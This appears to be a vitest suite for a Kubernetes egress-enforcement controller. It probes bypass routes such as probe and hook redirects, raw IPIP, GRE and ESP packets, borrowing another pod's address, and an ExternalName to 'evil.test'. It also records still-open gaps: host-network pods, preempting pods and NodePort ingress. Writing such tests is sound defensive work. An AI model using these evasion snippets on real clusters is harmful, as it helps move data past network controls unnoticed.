import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { bash } from '../../scripts/scenario/shell.ts';
import { pod, service } from './support/attacks/attempts.ts';
import { type Arrival, InternetLog } from './support/attacks/internet-log.ts';
import { kubectl, must, ruleSet, startStage, TENANT } from './support/attacks/stage.ts';
import { eventually, inPod, leaveNamespaces } from './support/client-pods.ts';

/** Enforced, enforced and deleted under way, and a tenant's own without our label. */
const [ENFORCED, LEAVING, FRESH] = ['side-doors', 'side-doors-leaving', 'side-doors-fresh'];
const OUTSIDE = '203.0.113.66';
/** The address of the internet simulator that a Service of the tenant claims. */
const CLAIMED = '203.0.113.50';
const API = `${ENFORCED}/api`;
const internet = new InternetLog();

/** Tells the server of each request, and answers it with a redirect to the internet. */
const redirecting = (path: string) => `
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.request import ProxyHandler, build_opener
class Handler(BaseHTTPRequestHandler):
  def do_GET(self):
    try: build_opener(ProxyHandler({})).open("http://server.${ENFORCED}:8080/${path}-asked").read()
    except OSError: pass
    self.send_response(302); self.send_header("Location", "http://${OUTSIDE}/${path}"); self.end_headers()
HTTPServer(("", 8080), Handler).serve_forever()`;

const redirector = (name: string, container: object) =>
  pod(ENFORCED, name, {}, { command: ['python3', '-c', redirecting(name)], ...container });

const arrived = (part: string): Arrival[] =>
  internet.since().filter(({ path, server }) => path.includes(part) || server.includes(part));

async function direct(from: string, url: string): Promise<string> {
  return (await inPod(from, `curl --noproxy '*' -s -o /dev/null -m 3 -w '%{http_code}' ${url}`)).stdout;
}

async function proxied(from: string, url: string): Promise<string> {
  return (await inPod(from, `curl -s -o /dev/null -m 4 -w '%{http_code}' ${url}`)).stdout;
}

async function python(from: string, script: string): Promise<string> {
  const { stdout, stderr } = await inPod(from, `python3 - <<'END'\n${script}\nEND`);
  return stdout.trim() || stderr.trim();
}

const field = async (object: string, path: string) =>
  (await must(`get ${object} -o jsonpath='{${path}}'`)).trim();

beforeAll(async () => {
  await Promise.all([startStage(ENFORCED, 'enforce'), startStage(LEAVING, 'enforce'), startStage(FRESH)]);
  const stubborn = "trap '' TERM; while :; do sleep 1; done";
  const items = [
    pod(ENFORCED, 'api'),
    {
      ...service(ENFORCED, { selector: { app: 'server' }, ports: [{ port: 8080 }] }),
      metadata: { name: 'server', namespace: ENFORCED },
    },
    pod(ENFORCED, 'server', {}, { command: ['python3', '-m', 'http.server', '8080'] }),
    pod(LEAVING, 'api', { terminationGracePeriodSeconds: 60 }, { command: ['sh', '-c', stubborn] }),
    pod(FRESH, 'api', {}, { command: ['python3', '-m', 'http.server', '80'] }),
    redirector('probed', {
      readinessProbe: { httpGet: { port: 8080 }, periodSeconds: 1, timeoutSeconds: 10 },
    }),
    redirector('hooked', { lifecycle: { preStop: { httpGet: { port: 8080 } } } }),
  ];
  await must('apply -f -', { apiVersion: 'v1', kind: 'List', items });
  for (const namespace of [ENFORCED, LEAVING, FRESH]) {
    await must(`wait -n ${namespace} --for=condition=Ready pod --all --timeout=60s`);
  }
  await ruleSet(ENFORCED, 'rules', ['aibang.com:80']);
});
afterAll(() => leaveNamespaces(ENFORCED, LEAVING, FRESH));

/** What the server was asked for. */
const asked = () => must(`logs -n ${ENFORCED} server`);

describe('the kubelet', () => {
  test('follows no redirect of a probe out of the pod', async () => {
    const probed = async () => (await asked()).includes('GET /probed-asked');
    expect(await eventually(probed, true)).toBe(true);
    expect(arrived('/probed')).toEqual([]);
  });

  test('follows no redirect of a hook out of the pod', async () => {
    await must(`delete pod hooked -n ${ENFORCED} --grace-period=3 --wait=false`);
    const called = async () => (await asked()).includes('GET /hooked-asked');
    expect(await eventually(called, true)).toBe(true);
    await must(`wait pod hooked -n ${ENFORCED} --for=delete --timeout=30s`);
    expect(arrived('/hooked')).toEqual([]);
  });
});

describe('other protocols and addresses', () => {
  test.concurrent("the node's own daemons", async () => {
    const address = await field('node node-1', '.status.addresses[0].address');
    expect(await direct(`${FRESH}/api`, `-k https://${address}:10250/`)).toBe('404');
    expect(await direct(API, `-k https://${address}:10250/`)).toBe('000');
  });

  test.concurrent('ICMP to the internet', async () => {
    const ping = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("${OUTSIDE}", 0))
try: s.recv(99); print("answered")
except OSError as e: print(type(e).__name__)`;
    expect(await python(API, ping)).toMatch(/timeout|TimeoutError/);
  });

  test('IPIP, GRE and ESP to the internet', async () => {
    const protocols = '4, 47, 50';
    // Ends when it has the last packets of two rounds: in the second one it has listened from the beginning.
    const listener = `
import select, socket
sockets = [socket.socket(socket.AF_INET, socket.SOCK_RAW, p) for p in (${protocols})]
seen = set(); rounds = set()
while len(rounds) < 2:
  for s in select.select(sockets, [], [])[0]:
    _, namespace, turn = s.recv(99)[20:].decode().split()
    seen.add(namespace + " " + str(s.proto))
    if namespace == "${FRESH}" and s.proto == 50: rounds.add(turn)
print("\\n".join(sorted(seen)))`;
    // The first bytes are GRE's header. With these, connection tracking does not take it for PPTP.
    const send = (namespace: string, turn: number) =>
      python(
        `${namespace}/api`,
        `
import socket
for p in (${protocols}):
  socket.socket(socket.AF_INET, socket.SOCK_RAW, p).sendto(b"leak ${namespace} ${turn}".ljust(40), ("${OUTSIDE}", 0))`,
      );
    let ended = false;
    const listening = bash('scripts/cluster enter internet timeout 60 python3 -', {
      input: listener,
      timeoutSeconds: 70,
    }).finally(() => {
      ended = true;
    });
    for (let turn = 0; !ended; turn += 1) {
      await send(ENFORCED, turn);
      await send(FRESH, turn);
    }
    const { stdout, stderr } = await listening;
    expect(stdout.trim().split('\n'), stderr).toEqual([`${FRESH} 4`, `${FRESH} 47`, `${FRESH} 50`]);
  });

  test.concurrent("another pod's address", async () => {
    const other = await field(`pod api -n ${FRESH}`, '.status.podIP');
    const claim = `
import socket
s = socket.socket(); s.settimeout(3)
s.setsockopt(socket.SOL_IP, 19, 1)
s.bind(("${other}", 0))
try: s.connect(("${OUTSIDE}", 80)); print("connected")
except OSError as e: print(type(e).__name__)`;
    expect(await python(API, claim)).toMatch(/timeout|TimeoutError/);
  });

  test.concurrent('an ExternalName of another namespace', async () => {
    await must('apply -f -', service(FRESH, { type: 'ExternalName', externalName: 'evil.test' }));
    const leak = `http://leak.${FRESH}.svc.cluster.local/`;
    // DNS knows of it a moment later.
    expect(await eventually(() => direct(`${FRESH}/api`, leak), '200')).toBe('200');
    expect(await direct(API, leak)).toBe('000');
  });

  test('a Service that claims a public address gets nothing of what the proxy sends there', async () => {
    const claiming = { externalIPs: [CLAIMED], selector: { app: 'api' }, ports: [{ port: 80 }] };
    const object = { ...service(FRESH, claiming), metadata: { name: 'claim', namespace: FRESH } };
    expect(await proxied(API, 'http://aibang.com/claim-before')).toBe('200');
    await must(`create -f - ${TENANT}`, object);
    // Squid sends a POST on a connection of its own. One that it has kept from before the claim would still answer.
    const claimed = async () => (await proxied(API, '-X POST http://aibang.com/claim-after')) !== '200';
    expect(await eventually(claimed, true)).toBe(true);
    const requests = await must(`logs -n ${FRESH} api`);
    await must(`delete service claim -n ${FRESH}`);
    expect(requests).not.toContain('claim-');
  });
});

test('while its namespace is deleted, a pod that does not end stays closed', async () => {
  await kubectl(`delete namespace ${LEAVING} --wait=false`);
  const going = () => field(`pod api -n ${LEAVING}`, '.metadata.deletionTimestamp');
  expect(await eventually(async () => (await going()) !== '', true)).toBe(true);
  const phase = await field(`namespace ${LEAVING}`, '.status.phase');
  expect(phase).toBe('Terminating');
  expect(await direct(`${LEAVING}/api`, `http://${OUTSIDE}/leaving`)).toBe('000');
  expect(arrived('/leaving')).toEqual([]);
  await must(`delete pod api -n ${LEAVING} --grace-period=0 --force`);
});

describe('open', () => {
  test('a pod on the host network from before the opt-in, which the condition Enforced names', async () => {
    const late = `${FRESH}/on-the-host`;
    await must('apply -f -', pod(FRESH, 'on-the-host', { hostNetwork: true }));
    await must(`wait -n ${FRESH} --for=condition=Ready pod/on-the-host --timeout=60s`);
    await must(`label namespace ${FRESH} egress.zalando.org/mode=enforce`);
    const named = async () => {
      const path = '.status.conditions[?(@.type=="Enforced")].message';
      const { stdout } = await kubectl(`get egressactivity observed -n ${FRESH} -o jsonpath='{${path}}'`);
      return stdout.includes('on-the-host');
    };
    expect(await eventually(named, true)).toBe(true);
    expect(await direct(`${FRESH}/api`, `http://${OUTSIDE}/`)).toBe('000');
    expect(await direct(late, `http://${OUTSIDE}/`)).toBe('200');
  });

  test('a pod of a higher priority than the proxies and the webhook', async () => {
    const preempting = pod(ENFORCED, 'preempting', { priorityClassName: 'system-node-critical' });
    const created = await must(`create -f - --dry-run=server -o json ${TENANT}`, preempting);
    const { spec } = JSON.parse(created) as { spec: { priority: number } };
    const priorities = async (selection: string) =>
      (await must(`get pods ${selection} -o jsonpath='{.items[*].spec.priority}'`)).split(' ').map(Number);
    const proxies = await priorities('-n egress-proxy -l app=squid');
    const ours = [...proxies, ...(await priorities('-n kube-egress-system'))];
    expect(ours.length).toBeGreaterThan(2);
    expect(spec.priority).toBeGreaterThan(Math.max(...ours));
    // Classes that an operator makes have one billion at most.
    expect(Math.min(...proxies)).toBeGreaterThan(1_000_000_000);
  });

  test('who connects in from outside takes data along', async () => {
    const spec = { type: 'NodePort', selector: { app: 'server' }, ports: [{ port: 8080 }] };
    await must(`create -f - ${TENANT}`, service(ENFORCED, spec));
    const port = await field(`service leak -n ${ENFORCED}`, '.spec.ports[0].nodePort');
    const node = await field('node node-1', '.status.addresses[0].address');
    const fetch = `scripts/cluster enter internet curl -s -o /dev/null -m 3 -w '%{http_code}' http://${node}:${port}/`;
    expect(await eventually(async () => (await bash(fetch)).stdout, '200')).toBe('200');
  });
});
